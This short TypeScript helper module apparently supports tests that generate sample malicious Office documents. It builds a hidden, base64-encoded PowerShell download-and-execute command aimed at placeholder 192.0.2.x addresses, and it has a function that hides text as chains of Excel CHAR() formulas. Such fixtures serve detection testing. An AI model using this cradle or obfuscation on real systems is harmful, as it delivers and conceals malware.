/** What documents of several campaigns have in common. */

/** Numbers of the classes of controls in forms. */
export const LABEL = 21
export const TEXT_BOX = 23
export const OPTION = 27

const encoded = (text: string): string => Buffer.from(text, 'utf16le').toString('base64')
const fetching = (i: number): string => `IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.${i + 1}/x')`
export const powershell = (i: number): string => `powershell -w hidden -enc ${encoded(fetching(i))}`

/** Cells of one column. */
export const column = (letter: string, texts: readonly string[], from = 1): Record<string, string> =>
  Object.fromEntries(texts.map((text, i) => [`${letter}${from + i}`, text]))

/** A text as characters of Excel. */
export const charOf = (text: string, offset = 0): string =>
  [...text].map((letter) => `CHAR(${letter.charCodeAt(0) + offset}${offset === 0 ? '' : `-${offset}`})`).join('&')
